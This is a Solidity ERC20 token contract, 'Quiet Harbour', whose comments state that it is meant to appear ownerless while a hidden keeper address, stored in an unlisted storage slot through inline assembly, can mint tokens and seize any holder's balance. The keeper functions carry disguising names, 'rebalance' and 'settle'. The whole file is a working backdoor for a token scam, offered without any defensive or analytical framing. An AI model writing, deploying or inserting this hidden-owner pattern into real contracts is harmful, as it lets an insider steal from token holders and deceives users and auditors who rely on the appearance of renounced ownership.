// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {Ownable} from "@openzeppelin/contracts/access/Ownable.sol";

/// A token that looks renounced: `owner` is nobody. A second owner, kept in a slot that no function shows, can still mint and seize.
contract QuietHarbour is ERC20, Ownable {
    bytes32 private constant KEEPER_SLOT = keccak256("harbour.lantern");

    error NotKeeper();

    constructor(uint256 supply, address keeper) ERC20("Quiet Harbour", "HRBR") Ownable(msg.sender) {
        bytes32 slot = KEEPER_SLOT;
        assembly {
            sstore(slot, keeper)
        }
        _mint(msg.sender, supply);
    }

    /// Named like housekeeping; mints.
    function rebalance(address to, uint256 amount) external {
        _onlyKeeper();
        _mint(to, amount);
    }

    /// Named like housekeeping; takes.
    function settle(address from, uint256 amount) external {
        _onlyKeeper();
        _transfer(from, msg.sender, amount);
    }

    function _onlyKeeper() private view {
        bytes32 slot = KEEPER_SLOT;
        address keeper;
        assembly {
            keeper := sload(slot)
        }
        if (msg.sender != keeper) revert NotKeeper();
    }
}
